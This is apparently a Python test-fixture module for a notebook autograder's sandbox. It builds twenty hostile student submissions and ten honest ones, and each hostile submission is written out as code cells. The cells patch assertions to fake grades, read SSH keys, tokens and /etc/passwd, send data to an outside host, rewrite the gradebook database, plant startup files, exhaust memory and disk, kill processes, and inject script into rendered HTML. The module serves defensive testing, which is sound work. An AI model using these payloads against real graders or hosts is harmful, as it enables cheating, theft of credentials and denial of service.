"""Twenty submissions that try something, and ten that do not: one class.

Each hostile one is a function of (folder of the course, folder of the submission's notebook) that
writes what its student hands in. What a program of theirs finds or manages, it prints as one line
`LINE <number>: <JSON list>`; an empty list is what the tests want to read. How what it tried was
refused stands in a line `REFUSED`, so that a test sees an attack that is only broken. The numbers
are those of docs/security.md.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from . import small_course as tiny

HOSTILE: dict[str, Callable[[Path], None]] = {}


def hostile(write: Callable[[Path], None]) -> Callable[[Path], None]:
    """List a submission under its function's name."""
    HOSTILE[write.__name__] = write
    return write


TRY = """
import json, os, sys

def attempt(number, *tries):
    managed, refused = [], []
    for place, one in enumerate(tries):
        try:
            result = one()
            managed += [[place, str(result)[:200]]] if result else []
        except BaseException as error:
            refused.append(type(error).__name__)
    print(f"LINE {number}: {json.dumps(managed)}")
    print(f"REFUSED {number}: {json.dumps(refused)}")
"""


def _hand_in_with(root: Path, student: str, cells: list[str]) -> None:
    """Hand in right answers, with cells of the student's own."""
    tiny.hand_in(root, student, tiny.with_cells(tiny.notebook(), *cells))


# ---------------------------------------------------------------- undeserved points
@hostile
def forger(root: Path) -> None:
    """Lines 1, 10, 11, 26, 29, 53: all that metadata and outputs can claim, and no answers."""
    nb = tiny.unfilled()
    for cell in nb.cells:
        if cell.id.endswith("-hidden"):
            cell.metadata["tags"] = ["skip-execution", "demonstration"]
            cell.metadata.nbgrader |= {"points": 1000, "solution": True}
            cell.source = "7.0"
            texts = ["7.0", "nan", "-1"]
            cell.outputs = [new_output("execute_result", {"text/plain": t}) for t in texts]
            cell.outputs.append(new_output("execute_result", {"text/html": "<b>7.0</b>"}))
    nb.cells.reverse()
    tiny.hand_in(root, "forger", nb)


@hostile
def patcher(root: Path) -> None:
    """Lines 2 to 9, 12, 22, 23, 25: what a test could lean on is replaced; answers are wrong."""
    patches = [
        "import numpy as np, math, builtins, random, time, ast, sys, os",
        "ip = get_ipython()\nok = type('R', (), {'success': True, 'result': 7.0})()\n"
        "ip.do_execute = lambda *a, **k: {'status': 'ok'}",
        "class NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.Pass()\n"
        "ip.ast_transformers.append(NoAsserts())",
        "yes = lambda *a, **k: True\n"
        "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None\n"
        "np.allclose = np.isclose = np.array_equal = math.isclose = yes",
        "plain = ip.display_formatter.formatters['text/plain']\n"
        "plain.for_type(float, lambda o, p, c: p.text('7.0'))",
        "np.random.randn = np.random.rand = lambda *s: np.zeros(s)\n"
        "np.random.default_rng = lambda *a: np.random.RandomState(0)",
        "time.perf_counter = time.time = time.monotonic = lambda: 0.0",
        "from IPython.display import clear_output\n"
        "ip.events.register('post_run_cell', lambda *a: clear_output())",
        "import threading\n"
        "def emit():\n"
        "    for _ in range(50):\n"
        "        display(7.0); sys.displayhook(7.0); time.sleep(.02)\n"
        "threading.Thread(target=emit, daemon=True).start()",
        "for name in ('float', 'range', 'abs', 'all'):\n    globals()[name] = lambda *a: True",
        "GRADING = 'NBGRADER_EXECUTION' in os.environ or not sys.stdin.isatty()",
    ]
    wrong = {
        name: source.replace("return", "sys.displayhook(7.0)\n    return")
        for name, source in tiny.WRONG.items()
    }
    tiny.hand_in(root, "patcher", tiny.with_cells(tiny.notebook(wrong), *patches))


@hostile
def liar(root: Path) -> None:
    """Lines 13, 24, 58: answers that are not what they seem."""
    answers = {
        "double": "class Yes(np.ndarray):\n"
        "    def __eq__(self, o): return True\n"
        "    def __sub__(self, o): return np.zeros(1)\n"
        "    __ne__ = __lt__ = __gt__ = __eq__\n"
        "    def __array__(self, *a, **k): return np.zeros(1)\n"
        "    def __reduce__(self): return (print, ('pickled',))\n"
        "kinds = [lambda x: np.zeros(x.shape).view(Yes), lambda x: x.astype(object),\n"
        "         lambda x: np.zeros(x.shape, [('a', 'f8')]), lambda x: x + 0j, lambda x: [x, x]]\n"
        "turn = [0]\n"
        "def double(x):\n    turn[0] += 1\n    return kinds[turn[0] % len(kinds)](x)",
        "square": "def square(x):\n    return np.full(x.shape, np.nan)",
        "length": "class Most(float):\n"
        "    def __eq__(self, o): return True\n"
        "    __le__ = __ge__ = __eq__\n"
        "def length(x):\n    return Most(0) if x.size > 1 else np.zeros(1 << 26, np.uint8)",
    }
    tiny.hand_in(root, "liar", tiny.notebook(answers))


@hostile
def peeker(root: Path) -> None:
    """Lines 14, 15, 33: look for the test, the expected value or the reference from inside."""
    spy = (
        "import gc, sys, json\n"
        "def spy(x):\n"
        "    found = [t for t in In[-3:] if 'hid' + 'den_test' in t]\n"
        "    frame = sys._getframe(1)\n"
        "    while frame:\n"
        "        found += [n for n in frame.f_locals if n in ('want', 'expected', 'reference')]\n"
        "        frame = frame.f_back\n"
        "    found += [m for m in sys.modules if m.startswith(('autograder', 'nbgrader'))]\n"
        "    for o in gc.get_objects():\n"
        "        if callable(o) and str(getattr(o, '__module__', '')).startswith('autograder'):\n"
        "            found.append(o)\n"
        "    return found\n"
    )
    answers = {
        "double": f"{spy}def double(x):\n    if spy(x): return 2 * x\n    return np.zeros(x.shape)",
        "square": tiny.WRONG["square"],
        "length": tiny.WRONG["length"],
    }
    tiny.hand_in(root, "peeker", tiny.notebook(answers))


@hostile
def shipper(root: Path) -> None:
    """Lines 18, 19, 27: files that would stand in for modules; one right answer of three."""
    evil = b"import os\nprint('LINE 18: [1]')\ndef __getattr__(name): return lambda *a, **k: 7.0\n"
    # The last is imported by nobody else: no process that students' ones are forked from has it.
    names = (
        "numpy torch ipykernel_launcher sitecustomize usercustomize IPython cs231n_utils mailbox"
    )
    files = {f"{name}_DOT_py": evil for name in names.split()}
    nb = tiny.notebook({"square": tiny.WRONG["square"], "length": tiny.WRONG["length"]})
    look = "import helper\nprint('LINE 27:', json.dumps([] if helper.x == 1 else [1]))"
    rewrite = "with open('helper.py', 'w') as f:\n    f.write('x = 1')"
    tiny.with_cells(nb, TRY, rewrite, look, "import mailbox\nmailbox.Mailbox")
    tiny.hand_in(root, "shipper", nb, helper_DOT_py=b"x = 2\n", **files)


@hostile
def linker(root: Path) -> None:
    """Lines 20, 31, 64: links, pipes and odd names; its notebook is a link to a neighbour's."""
    folder = tiny.hand_in(root, "linker")
    (folder / tiny.NOTEBOOK).symlink_to(root / "submitted" / "ada" / tiny.SLUG / tiny.NOTEBOOK)
    (folder / "leak.txt").symlink_to(root / "submitted" / "ben" / tiny.SLUG / tiny.NOTEBOOK)
    (folder / "src.txt").symlink_to(root / "solutions" / tiny.SLUG / tiny.NOTEBOOK)
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "zero.bin").symlink_to("/dev/zero")
    os.link(root / "nbgrader_config.py", folder / "hard.txt")
    os.mkfifo(folder / "pipe.txt")
    (folder / "new\nline.txt").write_text("x")
    (folder / ("n" * 240)).write_text("x")
    (folder / "out").symlink_to(root / "solutions")


@hostile
def shortcut(root: Path) -> None:
    """Lines 30, 65: NumPy's own norm where the length is to be worked out."""
    answer = "from numpy import linalg as work\ndef length(x):\n    return work.norm(x)"
    tiny.hand_in(root, "shortcut", tiny.notebook({"length": answer}))


# ---------------------------------------------------------------- other people's data
@hostile
def prowler(root: Path) -> None:
    """Lines 16, 17, 32, 34, 35, 36, 59: read and reach whatever lies around. Answers are right."""
    home = os.environ["HOME"]
    cells = [
        TRY + f"ROOT, HOME = {str(root)!r}, {home!r}\n"
        "def read(path):\n"
        "    return lambda: os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(9)",
        "attempt(16, read(ROOT + '/solutions'), read('../../../solutions'),\n"
        f"        read(ROOT + '/solutions/{tiny.SLUG}/{tiny.NOTEBOOK}'))",
        "attempt(17, *[read(f) for f in os.listdir('.') if f.endswith('.ipynb')],\n"
        f"        read('{tiny.NOTEBOOK}'), lambda: 'hidden_test' in ''.join(In[:-1]))",
        "attempt(32, read(ROOT + '/submitted'), read('../../../submitted'))\n"
        "attempt(33, read(ROOT + '/gradebook.db'), read('../../../gradebook.db'))",
        "attempt(34, read(HOME + '/.local/share/jupyter/runtime'), read(HOME), read('/run/user'))",
        "def sockets(*families):\n"
        "    import socket\n"
        "    return [s for f in families for s in [socket.socket(getattr(socket, f))]]\n"
        "def send():\n"
        "    import urllib.request\n"
        "    return urllib.request.urlopen('http://192.0.2.1/', timeout=1)\n"
        "attempt(35, lambda: sockets('AF_INET'), lambda: sockets('AF_UNIX'))\n"
        "attempt(36, send, lambda: sockets('AF_INET6'), read(HOME + '/.ssh/id_rsa'),\n"
        "        lambda: [k for k in os.environ if 'TOKEN' in k or 'KEY' in k])",
        "import ctypes, signal\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "attempt(59, lambda: libc.ptrace(16, os.getppid(), 0, 0) == 0,\n"
        "        lambda: libc.ptrace(0, 0, 0, 0) == 0,\n"
        "        lambda: [p for p in os.listdir('/proc') if p.isdigit()\n"
        "                 and b'pytest' in open(f'/proc/{p}/cmdline', 'rb').read()],\n"
        "        read('/proc/1/environ'), read('/proc/1/mem'),\n"
        "        lambda: [os.readlink(f'/proc/1/fd/{n}')\n"
        "                 for n in os.listdir('/proc/1/fd')],\n"
        "        lambda: os.kill(1, signal.SIGKILL), lambda: os.kill(-1, signal.SIGTERM),\n"
        "        lambda: libc.unshare(0x10000000) == 0, lambda: libc.setuid(0) == 0,\n"
        "        lambda: os.pidfd_open(1) and libc.syscall(438, os.pidfd_open(1), 0, 0) >= 0)",
    ]
    _hand_in_with(root, "prowler", cells)


@hostile
def stasher(root: Path) -> None:
    """Hidden inputs, kept, then printed, raised and shown: they must not come back in feedback."""
    answers = {
        "double": "STASH = []\ndef double(x):\n    STASH.append(x.tolist())\n    return 2 * x",
        "square": "def square(x):\n"
        "    STASH.append(x.tolist())\n"
        "    raise type('Seen' + repr(x[0])[-5:], (ValueError,), {})(f'hidden {STASH}')",
        "length": "def length(x):\n    return np.zeros((len(STASH), int(1000 * abs(x[0]))))",
    }
    nb = tiny.notebook(answers)
    tiny.with_cells(
        nb, "print('printed', STASH)\nraise ValueError(f'raised {STASH}')", before="square"
    )
    nb.cells.append(new_code_cell("print('at the end', STASH)"))
    tiny.hand_in(root, "stasher", nb)


@hostile
def scripter(root: Path) -> None:
    """Lines 37, 63: all that a browser shows tries to change the page. Answers are right."""
    run = "document.title='OWNED';document.body.setAttribute('data-owned','1')"
    picture = f'<img src=x onerror="{run}">'
    attack = f'<script>{run}</script>{picture}<svg onload="{run}"></svg>'
    attack += f'<a href="javascript:{run}">x</a><iframe srcdoc="<script>parent.{run}</script>">'
    nb = tiny.notebook()
    latex = "$\\href{javascript:" + run + "}{x}$" + attack
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{attack}</svg>'
    shown = (
        "from IPython.display import *\n"
        f"A, RUN, LATEX, DRAWING = {attack!r}, {run!r}, {latex!r}, {drawing!r}\n"
        "display(HTML(A), Markdown(A), Javascript(RUN), Latex(LATEX))\n"
        "display({'image/svg+xml': DRAWING, 'text/plain': 'a drawing'}, raw=True)\n"
        "widget = {'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}\n"
        "display({**widget, 'text/html': A}, raw=True)\n"
        "print(A)\n"
        "print('\\x1b[31m' + A)\n"
        "raise ValueError(A)"
    )
    tiny.with_cells(nb, shown, attack)
    nb.cells.insert(1, new_markdown_cell(attack + f"\n\n[x](javascript:{run})\n\n$${attack}$$"))
    nb.cells.insert(2, new_markdown_cell(f"![x](attachment:{picture}.png)"))
    tiny.hand_in(root, "scripter", nb)


# ---------------------------------------------------------------- hurting others
@hostile
def writer(root: Path) -> None:
    """Lines 21, 38 to 42, 44, 47: write to the gradebook, to neighbours, to what runs later."""
    home, site = os.environ["HOME"], os.path.dirname(os.path.dirname(nbformat.__file__))
    cells = [
        TRY + f"ROOT, HOME, SITE = {str(root)!r}, {home!r}, {site!r}\n"
        "def write(path):\n    return lambda: open(path, 'w').write('x')\n"
        "def sql(text):\n"
        "    import sqlite3\n"
        "    return lambda: [sqlite3.connect(f'file:{ROOT}/gradebook.db?mode=rw', uri=True)\n"
        "                    .execute(text)]",
        "attempt(21, sql('UPDATE grade SET manual_score = 50'), write(ROOT + '/gradebook.db'))\n"
        "attempt(38, sql('UPDATE grade SET auto_score = 0'))\n"
        "attempt(39, sql(\"UPDATE source_cell SET source = ''\"))\n"
        f"attempt(40, write(ROOT + '/submitted/ada/{tiny.SLUG}/{tiny.NOTEBOOK}'))\n"
        "attempt(41, write(HOME + '/.ipython/profile_default/startup/00.py'))\n"
        "own = os.path.expanduser('~/.ipython/profile_default/startup')\n"
        "os.makedirs(own, exist_ok=True)\n"
        "write(own + '/00.py')()  # this one is in the sandbox's memory\n"
        "attempt(42, write(ROOT + '/nbgrader_config.py'), write(SITE + '/evil.pth'),\n"
        "        write(SITE + '/nbgrader/__init__.py'), write(ROOT + '/solutions/x'),\n"
        "        lambda: os.access(SITE, os.W_OK), write('/usr/bin/evil'))\n"
        "attempt(44, write(ROOT + '/inbound'), lambda: os.chmod('/course', 0o777) or True)\n"
        "attempt(47, sql('BEGIN EXCLUSIVE'))",
    ]
    _hand_in_with(root, "writer", cells)


# ---------------------------------------------------------------- taking the grader down
@hostile
def bomber(root: Path) -> None:
    """Lines 43, 55, 60: use up what there is, start what stays. Answers are right."""
    cells = [
        TRY + "import numpy as np, threading, subprocess, ctypes, mmap",
        "def daemon():\n"
        "    return subprocess.Popen(['sleep', '7331'], start_new_session=True).pid\n"
        "def fork():\n"
        "    pid = os.fork()\n"
        "    if pid == 0: os._exit(0)\n"
        "    return pid\n"
        "attempt(43, fork, daemon, lambda: os.system('sleep 7331 &') == 0,\n"
        "        lambda: os.posix_spawn('/bin/sleep', ['sleep', '7331'], {}))",
        "def memory():\n"
        "    return [np.empty(1 << 27) for _ in range(16)]\n"
        "def threads():\n"
        "    wait = threading.Event()\n"
        "    try:\n"
        "        for _ in range(500):\n"
        "            threading.Thread(target=wait.wait, daemon=True).start()\n"
        "        return 'all'\n"
        "    finally:\n        wait.set()\n"
        "def descriptors():\n    return [open('/dev/null') for _ in range(5000)]\n"
        "attempt(55, memory, threads, descriptors)",
        "def disk():\n"
        "    block = bytes(8 << 20)\n"
        "    for n in range(40):\n"
        "        with open(f'/tmp/fill{n}', 'wb') as f:\n            f.write(block)\n"
        "    return 'filled'\n"
        "def large():\n"
        "    with open('/job/large', 'wb') as f:\n        f.truncate(1 << 40)\n"
        "    return 'filled'\n"
        "attempt(55, disk, large)\n"
        "for f in os.listdir('/tmp'):\n"
        "    if f.startswith('fill'): os.remove('/tmp/' + f)",
        "def inodes():\n"
        "    for n in range(20_000):\n        open(f'/job/i{n}', 'w').close()\n"
        "    return 'filled'\n"
        "attempt(55, inodes)",
        "def shared():\n"
        "    with open('/dev/shm/x', 'wb') as f:\n        f.write(bytes(20 << 20))\n"
        "    return 'filled'\n"
        "attempt(60, shared, lambda: os.memfd_create('x') > 0,\n"
        "        lambda: ctypes.CDLL(None).shmget(0, 1 << 30, 0o1600) >= 0)",
    ]
    _hand_in_with(root, "bomber", cells)


@hostile
def killer(root: Path) -> None:
    """Lines 48, 49: signals to the parent and to everybody, ways to exit. Answers are right."""
    cells = [
        "import os, signal, sys\n"
        "for pid in (os.getppid(), -1, 1):\n"
        "    try: os.kill(pid, signal.SIGKILL)\n"
        "    except OSError as error: print(type(error).__name__)",
        "exit()",
        "import sys\nsys.exit()",
        "import os\nos._exit(0)",
    ]
    _hand_in_with(root, "killer", cells)


@hostile
def crasher(root: Path) -> None:
    """Line 61: an interpreter that dies while it is examined; the other answers are right."""
    answer = "import ctypes\ndef square(x):\n    return ctypes.string_at(0)"
    tiny.hand_in(root, "crasher", tiny.notebook({"square": answer}))


@hostile
def staller(root: Path) -> None:
    """Lines 50, 62: swallow the interrupt, and leave a thread behind. Answers are right."""
    cells = [
        "import threading, time\n"
        "def stay():\n    while True: time.sleep(.1)\n"
        "threading.Thread(target=stay).start()",
        "import time\nwhile True:\n    try: time.sleep(9)\n    except BaseException: pass",
    ]
    _hand_in_with(root, "staller", cells)


@hostile
def flooder(root: Path) -> None:
    """Lines 52, 63: a line of 60 MB, lines without end, control characters. Answers are right."""
    cells = [
        "print('x' * (60 << 20))",
        "while True: print('line ' * 99)",
        "print('\\x1b]0;title\\x07\\x1b[2J\\x1b[31mred', '\\0\\b\\r')\nprint(chr(0xd800))",
    ]
    _hand_in_with(root, "flooder", cells)


@hostile
def doubler(root: Path) -> None:
    """Line 45: a cell pasted twice, as happens to anybody. Answers are right."""
    nb = tiny.notebook()
    for cell in [cell for cell in nb.cells if cell.id in ("square", "square-hidden")]:
        copy = nbformat.from_dict(cell)
        copy.id = f"{cell.id}-copy"
        nb.cells.append(copy)
    nbformat.write(nb, tiny.hand_in(root, "doubler") / tiny.NOTEBOOK)


@hostile
def schemer(root: Path) -> None:
    """Lines 28, 46, 54: metadata of a future version, of wrong types; a forged and broken date."""
    nb = json.loads(nbformat.writes(tiny.notebook()))
    nb["metadata"] = {"kernelspec": {"name": "evil", "language": 5}, "widgets": {"state": {}}}
    for number, cell in enumerate(nb["cells"]):
        about = cell["metadata"].get("nbgrader")
        if about:
            about |= {"schema_version": 99, "points": "many", "task": True, "locked": None}
            about["grade"] = not about["grade"]
        if number == 1:
            cell["metadata"] = {"nbgrader": ["grade"], "tags": "all"}
        cell["outputs"] = {"not": "a list"}
    folder = tiny.hand_in(root, "schemer", timestamp_DOT_txt=b"the day before yesterday")
    (folder / tiny.NOTEBOOK).write_text(json.dumps(nb))


@hostile
def torn(root: Path) -> None:
    """Lines 54, 56, 64: a file that is cut off, with bytes that are no text; a bomb beside it."""
    tiny.hand_in(
        root, "torn", tiny_DOT_ipynb=b'{"cells": [\xff\xfe', bomb_DOT_zip=b"PK\x03\x04" * 9
    )


@hostile
def wirer(root: Path) -> None:
    """Line 57: frames of its own, from an examined function; the other answers are right."""
    answer = (
        "import os, struct, json\n"
        "def square(x):\n"
        "    reply = {'t': 'reply', 'id': 1, 'body': {'items': [], 'many': False}}\n"
        "    body = json.dumps(reply).encode()\n"
        "    frame = struct.pack('<4sIQ', b'CSW1', len(body), 0) + body\n"
        "    for fd in range(3, 64):\n"
        "        try:\n"
        "            if 'socket' in os.readlink(f'/proc/self/fd/{fd}'): os.write(fd, frame * 2)\n"
        "        except OSError: pass\n"
        "    return 0 * x"
    )
    tiny.hand_in(root, "wirer", tiny.notebook({"square": answer}))


# ---------------------------------------------------------------- and the others
def _honest() -> dict[str, dict[str, str]]:
    wrong, right = tiny.WRONG, tiny.ANSWERS
    halves = "def square(x):\n    return x * x if x.size > 1 else x"
    return {
        "ada": {},
        "ben": {"double": "def double(x):\n    return x"},
        "cleo": {"square": halves},
        "dan": {"length": "def length(x):\n    total = 0\n    for v in x: total += v * v\n"
                          "    return total ** .5"},
        "eve": {name: f"def {name}(x):\n{tiny.STUB}" for name in right},
        "finn": {"square": "def square(x):\n    return x.squared()"},
        "gus": {"double": "def double(x:\n    return 2"},
        "hana": {"length": wrong["length"], "square": wrong["square"]},
        "ivan": {"double": "def double(x):\n    x = x.copy()\n    x += x\n    return x"},
        "zoe": {"square": "square = lambda x: np.power(x, 2)"},
    }  # fmt: skip


HONEST = _honest()


def hand_in_honest(root: Path) -> None:
    """Write the ten honest submissions."""
    for student, answers in HONEST.items():
        tiny.hand_in(root, student, tiny.notebook(answers))
